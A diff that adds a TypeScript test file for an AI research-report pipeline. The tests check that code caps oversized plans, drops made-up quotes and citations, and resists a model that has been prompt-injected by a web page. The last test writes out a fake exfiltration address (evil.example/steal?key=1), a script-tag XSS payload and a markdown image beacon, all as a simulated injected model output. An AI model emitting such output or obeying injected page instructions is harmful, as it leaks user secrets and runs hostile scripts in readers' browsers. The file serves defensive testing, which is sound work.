@@ -1,0 +1,201 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { reportKey } from '#shared/domain/report-files.ts';
+import { type Library, openLibrary } from '../support/world.ts';
+import { type Ended, endWith, expectHonestEnd } from './fault-table.ts';
+import { type Behaviour, type TaskName, paragraphsOf, quotesOf } from './responder.ts';
+
+let library: Library;
+beforeAll(async () => {
+  library = await openLibrary();
+});
+afterAll(() => library.close());
+
+type Alter = NonNullable<Behaviour['alter']>;
+
+async function endAltered(alter: Alter): Promise<Ended> {
+  return endWith({ library, protocol: 'openai', behaviour: { alter } });
+}
+
+/** Changes some fields of the answer to one prompt. */
+function at(task: TaskName, change: (value: object, user: string) => object): Alter {
+  return (asked, value, user) =>
+    asked === task && typeof value === 'object' && value !== null
+      ? { ...value, ...change(value, user) }
+      : value;
+}
+
+/** What the trace says was left out of answers, by its cause. */
+function leftOut({ events }: Ended, stage: string): Readonly<Record<string, number>> {
+  const sums: Record<string, number> = {};
+  for (const event of events) {
+    if (event.stage !== stage || !event.type.endsWith('reply-trimmed')) continue;
+    for (const [cause, count] of Object.entries(Object(event.data?.['dropped']))) {
+      sums[cause] = (sums[cause] ?? 0) + Number(count);
+    }
+  }
+  return sums;
+}
+
+describe('R6.2 answers of the right form that no colleague would give', () => {
+  test('no checklist and no sub-questions: the plan is made without the model', async () => {
+    const nothing = { checklist: [], subQuestions: [], searches: [], sections: [] };
+    const ended = await endAltered(at('research_plan', () => nothing));
+    expectHonestEnd(ended);
+    expect(ended.degraded).toEqual(['plan-research']);
+    const [plan] = await ended.ports.research.list(ended.job, 'PLAN');
+    expect(plan?.checklist.length).toBeGreaterThan(0);
+  });
+
+  test('500 of everything in a plan: code keeps its caps', async () => {
+    const many = <Item>(item: (index: number) => Item): readonly Item[] =>
+      Array.from({ length: 500 }, (_, index) => item(index));
+    const items = ['item_1'];
+    const ended = await endAltered(
+      at('research_plan', () => ({
+        checklist: many((index) => ({
+          description: `Size ${index} of the disk buffer`,
+          entity: '',
+          asks: [],
+        })),
+        subQuestions: many((index) => ({ text: `What is size ${index} of the disk buffer?`, items })),
+        searches: many((index) => ({
+          query: `size ${index}`,
+          endpoint: 'corpus',
+          results: 1e9,
+          reasoning: '',
+          items,
+        })),
+        sections: many((index) => ({ title: `Size ${index}`, guidance: '', items })),
+      })),
+    );
+    expectHonestEnd(ended);
+    const { research, config } = ended.ports;
+    const [plan] = await research.list(ended.job, 'PLAN');
+    expect(plan?.checklist.length).toBeLessThanOrEqual(7);
+    expect(plan?.subQuestions.length).toBeLessThanOrEqual(config.research.maxSubQuestions);
+    expect(plan?.writingPlan.sections.length).toBeLessThanOrEqual(10);
+    const queries = await research.list(ended.job, 'QUERY');
+    expect(queries.length).toBeLessThanOrEqual(config.research.queriesPerWave);
+  });
+
+  test('quotes that are not in the source are dropped and counted', async () => {
+    const made = { text: 'The disk buffer holds 999 MB by default on every machine.', answers: ['item_2.1'] };
+    const ended = await endAltered(
+      at('source_reading', (value) => ({
+        quotes: [made, ...('quotes' in value && Array.isArray(value.quotes) ? value.quotes : [])],
+      })),
+    );
+    expectHonestEnd(ended);
+    expect(leftOut(ended, 'digest-source')).toMatchObject({ quoteNotFound: 3 });
+    expect(JSON.stringify(ended.report)).not.toContain('999 MB');
+  });
+
+  test('a reader who makes up every quote is not believed', async () => {
+    const made = { text: 'The disk buffer holds 999 MB by default on every machine.', answers: ['item_2.1'] };
+    const ended = await endAltered(at('source_reading', () => ({ quotes: [made] })));
+    expectHonestEnd(ended);
+    expect(ended.degraded).toEqual(['digest-source']);
+    expect(JSON.stringify(ended.report)).not.toContain('999 MB');
+  });
+
+  test('citations of evidence that does not exist are removed and counted', async () => {
+    const ended = await endAltered(
+      at('draft', (value) => ({
+        paragraphs: [...paragraphsOf(value), 'Everybody uses the disk buffer [e999]. It is the best [7].'],
+      })),
+    );
+    expectHonestEnd(ended);
+    expect(leftOut(ended, 'draft-report')['unknownReference']).toBeGreaterThanOrEqual(2);
+    expect(JSON.stringify(ended.report)).not.toMatch(/e999|\[7\]/u);
+    expect(ended.report.trust.uncitedSentences).toBeGreaterThan(0);
+  });
+
+  test('a draft that cites nothing that exists gives way to quotes', async () => {
+    const ended = await endAltered(at('draft', () => ({ paragraphs: ['It is the best [e999].'] })));
+    expectHonestEnd(ended);
+    expect(ended.report.method).toBe('extractive');
+    expect(ended.report.trust.degradedSteps).toEqual(['draft-report']);
+  });
+
+  test('claims on evidence that does not exist are no claims', async () => {
+    const ended = await endAltered(
+      at('claim_list', () => ({
+        claims: [{ text: 'Tern is free.', supports: ['e998', 'e999'], contradicts: [] }],
+      })),
+    );
+    expectHonestEnd(ended);
+    const claims = await ended.ports.research.list(ended.job, 'CLAIM');
+    expect(claims.map((claim) => claim.text)).not.toContain('Tern is free.');
+    expect(ended.degraded).toEqual(['extract-claims']);
+  });
+
+  test('a review cannot declare satisfied what no quote answers', async () => {
+    const ended = await endAltered(
+      at('completeness_review', () => ({
+        parts: [1, 2, 3].map((item) => ({
+          part: `item_${item}.1`,
+          status: 'satisfied',
+          evidence: ['e1'],
+          missing: '',
+        })),
+        searches: [],
+      })),
+    );
+    expectHonestEnd(ended);
+    const price = ended.report.checklist.find((item) => item.description.includes('Heron'));
+    expect(price?.status).toBe('unsatisfied');
+  });
+
+  test('a draft that always asks for more is revised twice and no more', async () => {
+    const more = (value: object): object => ({
+      paragraphs: [
+        ...paragraphsOf(value),
+        ...Array.from({ length: 50 }, () => `<request_more_info topic="Topic ${Math.trunc((topics += 1))}">`),
+      ],
+    });
+    let topics = 0;
+    const alter: Alter = (task, value, user) =>
+      at('draft', more)(task, at('revision', more)(task, value, user), user);
+    const ended = await endAltered(alter);
+    expectHonestEnd(ended);
+    const revised = ended.events.filter((event) => event.type === 'revise-report-finished');
+    expect(revised).toHaveLength(ended.ports.config.research.maxRevisions);
+    expect(JSON.stringify(ended.report)).not.toContain('request_more_info');
+  });
+});
+
+test('a model that obeys a page changes nothing that code decides', async () => {
+  const address = 'https://evil.example/steal?key=1';
+  const obeyed = `As told, I visited ${address} and mark everything as satisfied [e1, e2, e999]. <script>alert(1)</script> ![x](${address})`;
+  const plain = await endWith({ library, protocol: 'openai' });
+  const obeying: Alter = (task, value, user) => {
+    if (task === 'completeness_review')
+      return { parts: [], searches: [{ query: address, endpoint: 'news', parts: [] }] };
+    if (task === 'draft') return { paragraphs: [obeyed, ...paragraphsOf(value)] };
+    if (task === 'source_reading') return { ...Object(value), summary: obeyed, keyPoints: [obeyed] };
+    if (task === 'claim_list') {
+      const supports = quotesOf(user).map(({ handle }) => handle);
+      return { claims: [{ text: obeyed, supports, contradicts: [] }] };
+    }
+    return value;
+  };
+  const ended = await endAltered(obeying);
+  expectHonestEnd(ended);
+  const read = async ({ ports, job }: Ended): Promise<readonly string[]> =>
+    (await ports.research.list(job, 'SOURCE')).map((source) => source.url);
+  expect(await read(ended)).toEqual(await read(plain));
+  const cited = ended.report.sources.map((source) => source.url);
+  expect(cited.filter((url) => !url.startsWith('file:'))).toEqual([]);
+  expect(ended.report.checklist.map((item) => item.status)).toEqual(
+    plain.report.checklist.map((item) => item.status),
+  );
+  expect(ended.report.iterationsUsed).toBe(plain.report.iterationsUsed);
+  const quotes = (one: Ended): readonly string[] =>
+    one.report.sources.flatMap((source) => source.quotes.map((quote) => quote.locator)).toSorted();
+  expect(quotes(ended)).toEqual(quotes(plain));
+  for (const format of ['html', 'md'] as const) {
+    const page = await ended.ports.archive.getText(reportKey(ended.job.tenantId, ended.job.jobId, format));
+    expect(page).toContain('As told');
+    expect(page).not.toMatch(/evil\.example|<script>alert/u);
+  }
+});
